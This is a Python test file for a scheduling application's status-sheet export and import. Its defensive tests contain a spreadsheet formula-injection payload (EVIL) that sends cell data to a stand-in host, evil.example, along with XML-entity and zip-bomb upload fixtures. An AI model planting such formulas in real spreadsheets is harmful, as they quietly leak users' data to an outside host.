from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.oxml.ns import qn
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy.orm import Session

from scheduler.errors import InvalidFile
from scheduler.exports.csv_lines import csv_file
from scheduler.exports.spreadsheet import Sheet, spreadsheet
from scheduler.exports.status_sheets import status_form, status_spreadsheet
from scheduler.imports.forms.status_sheet import read_status_sheet
from scheduler.model.outcome import Commitment
from scheduler.papers.audience import Reach
from scheduler.papers.follow_up import FilledSheet, SheetReport, StatusSheet
from scheduler.papers.form_marks import PLACEHOLDER
from scheduler.secretariat.commitments import Step, step_in_words
from scheduler.secretariat.dates import named_with_date
from scheduler.secretariat.status_sheets import status_sheets, take_sheet
from scheduler.store.session import Database
from tests import factories
from tests.promises import LATER, first_meeting, promise_of, take_step

NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
TODAY = date(2026, 11, 24)
REPORT_AT, DAY_AT = 7, 8
EVIL = '=HYPERLINK("http://evil.example?x="&A1,"click")'


def _sheet(session: Session, code: str = "FISH") -> StatusSheet:
    body = factories.body(session, code)
    ((sheet, _),) = status_sheets(session, body.party.partnership, body=body, today=TODAY)
    return sheet


def _filled(content: bytes, *, text: object, day: object = None) -> bytes:
    book = load_workbook(BytesIO(content))
    page = book.worksheets[0]
    row = page.max_row
    page.cell(row, REPORT_AT).value = text  # type: ignore[assignment] # whatever somebody types
    page.cell(row, DAY_AT).value = day  # type: ignore[assignment] # as above
    saved = BytesIO()
    book.save(saved)
    return saved.getvalue()


def _page(content: bytes) -> Worksheet:
    return load_workbook(BytesIO(content)).worksheets[0]


def _chain(commitment: Commitment) -> list[str]:
    return [step_in_words(one) for one in commitment.chain[1:]]


def test_sheet_that_comes_back_is_taken_in_once(database: Database) -> None:
    with database.writing(verb="t", now=NOW, officer="Ada") as session:
        made = promise_of(session, first_meeting(session), "Share the list")
        promise_of(session, made.outcome.meeting, "ours alone", reach=Reach.PARTY)
        filled = _filled(
            status_spreadsheet(_sheet(session)), text="Half of it came.", day=date(2026, 11, 2)
        )
        read = read_status_sheet("fish.xlsx", filled)
        seen = take_sheet(session, read, "fish.xlsx", now=NOW, officer="Ada")
        before = _chain(made)
        taken = [
            take_sheet(session, read, "f", is_applied=True, now=NOW, officer="Ada")
            for _ in range(2)
        ]

        assert read == FilledSheet(
            "NORTH-SOUTH",
            "FISH",
            (SheetReport("ANNUAL-1/C1", "Half of it came.", date(2026, 11, 2)),),
        )
        assert ([one.text for one in seen.reports], before) == (["Half of it came."], [])
        assert [len(one.reports) for one in taken] == [1, 0]
        assert _chain(made) == ["reported on Mon 2 Nov 2026 by DG FISH: Half of it came."]
        assert made.chain[-1].reach is Reach.JOINT


def test_word_sheet_is_read_like_the_spreadsheet(sqlite_database: Database) -> None:
    with sqlite_database.writing(verb="t", now=NOW, officer="Ada") as session:
        promise_of(session, first_meeting(session), "Share the list")
        content = status_form(_sheet(session))
    document = docx.Document(BytesIO(content))
    texts = [one for one in document.element.body.iter(qn("w:t")) if one.text == PLACEHOLDER]
    texts[0].text, texts[1].text = "Half of it came.", "2026-11-02"
    saved = BytesIO()
    document.save(saved)

    assert read_status_sheet("a.docx", content) == FilledSheet("NORTH-SOUTH", "FISH", ())
    assert read_status_sheet("a.docx", saved.getvalue()).reports == (
        SheetReport("ANNUAL-1/C1", "Half of it came.", date(2026, 11, 2)),
    )


def test_body_says_nothing_of_what_it_does_not_owe(sqlite_database: Database) -> None:
    with sqlite_database.writing(verb="t", now=NOW, officer="Ada") as session:
        meeting = first_meeting(session)
        first = promise_of(session, meeting, "list")
        promise_of(session, meeting, "ours", reach=Reach.PARTY)
        closed = promise_of(session, meeting, "closed")
        take_step(closed, Step.CLOSE, "Done.")
        promise_of(session, meeting, "of trade", owner="TRADE")
        said = [SheetReport(f"ANNUAL-1/C{number}", "so far") for number in range(1, 6)]
        said += [SheetReport("ANNUAL-1/C1", "too early", date(2020, 1, 1))]
        filled = FilledSheet("NORTH-SOUTH", "FISH", tuple(said))

        taken = take_sheet(session, filled, "f", is_applied=True, now=LATER, officer="Ada")

        unknown = "expected a commitment of FISH, as on its sheet"
        assert [one.message for one in taken.findings] == [
            f"not taken: the reference 'ANNUAL-1/C2' cannot be used: {unknown}",
            "not taken: ANNUAL-1/C3 'closed' cannot be used: expected one that is still open",
            f"not taken: the reference 'ANNUAL-1/C4' cannot be used: {unknown}",
            f"not taken: the reference 'ANNUAL-1/C5' cannot be used: {unknown}",
            (
                "not taken: --on 'Wednesday 1 January 2020' cannot be used: expected a day that "
                f"has come since {named_with_date(meeting)}"
            ),
        ]
        assert (taken.is_refused, _chain(first)) == (True, [])


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "\tx", "\r=1"])
def test_texts_are_never_calculated(text: str) -> None:
    content = spreadsheet("t", [Sheet("s", (), ("a",), [(text,)])], TODAY)
    cell = _page(content).cell(2, 1)

    assert cell.data_type != "f"
    assert (cell.quotePrefix, str(cell.value).strip()) == (True, text.strip()) or text[0] in "\t\r"
    assert csv_file(("a",), [(text,)]).splitlines()[1].lstrip(b'"').startswith(b"'")


def test_formula_in_a_filled_sheet_is_refused(sqlite_database: Database) -> None:
    with sqlite_database.writing(verb="t", now=NOW, officer="Ada") as session:
        promise_of(session, first_meeting(session), "list")
        content = status_spreadsheet(_sheet(session))

    for day, problem in (
        (None, "row 6 holds a formula: write what it says instead"),
        ("=NOW()", "row 6 holds a formula: write what it says instead"),
    ):
        with pytest.raises(InvalidFile) as refused:
            read_status_sheet("a.xlsx", _filled(content, text=EVIL, day=day))
        assert [one.message for one in refused.value.problems] == [problem]


def _with(part: str, content: bytes) -> bytes:
    """A spreadsheet one part of which is replaced or added."""
    made = BytesIO(spreadsheet("t", [Sheet("s", (), ("a",), [])], TODAY))
    packed = BytesIO()
    with ZipFile(made) as source, ZipFile(packed, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name != part:
                target.writestr(name, source.read(name))
        target.writestr(part, content)
    return packed.getvalue()


BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'
DECLARES = "it declares what no spreadsheet does (a document type)"
HOSTILE = {
    "nothing.xlsx": (b"", "it is no spreadsheet (.xlsx)"),
    "text.xlsx": (b"Reference;Report", "it is no spreadsheet (.xlsx)"),
    "old.xlsx": (
        b"\xd0\xcf\x11\xe0",
        "it has a password or is in the old .xls format: save it as .xlsx",
    ),
    "large.xlsx": (b"x" * 5_000_001, "it is larger than 5 MB"),
    "bomb.xlsx": (
        _with("xl/media/a.bin", b"0" * 41_000_000),
        "it is larger, when unpacked, than a sheet can be",
    ),
    "entities.xlsx": (_with("xl/worksheets/sheet1.xml", BOMB), DECLARES),
    "utf16.xlsx": (_with("xl/worksheets/sheet1.xml", "<worksheet/>".encode("utf-16")), DECLARES),
    "damaged.xlsx": (
        _with("xl/worksheets/sheet1.xml", b"<worksheet"),
        "it is damaged: the spreadsheet cannot be read",
    ),
    "other.xlsx": (
        spreadsheet("t", [Sheet("s", (), ("a",), [])], TODAY),
        "it is no status sheet that was made here",
    ),
    "a.csv": (b"", "it is neither a spreadsheet (.xlsx) nor a Word document (.docx)"),
    "a.docx": (b"", "it is no Word document (.docx)"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_wrong_file_has_one_clear_answer(name: str) -> None:
    content, problem = HOSTILE[name]
    with pytest.raises(InvalidFile) as refused:
        read_status_sheet(name, content)
    assert [one.message for one in refused.value.problems] == [problem]


def test_same_sheet_has_the_same_bytes(sqlite_database: Database, tmp_path: Path) -> None:
    with sqlite_database.writing(verb="t", now=NOW, officer="Ada") as session:
        promise_of(session, first_meeting(session), "list")
        sheet = _sheet(session)

    for write in (status_spreadsheet, status_form):
        (tmp_path / "one").write_bytes(write(sheet))
        assert write(sheet) == (tmp_path / "one").read_bytes()
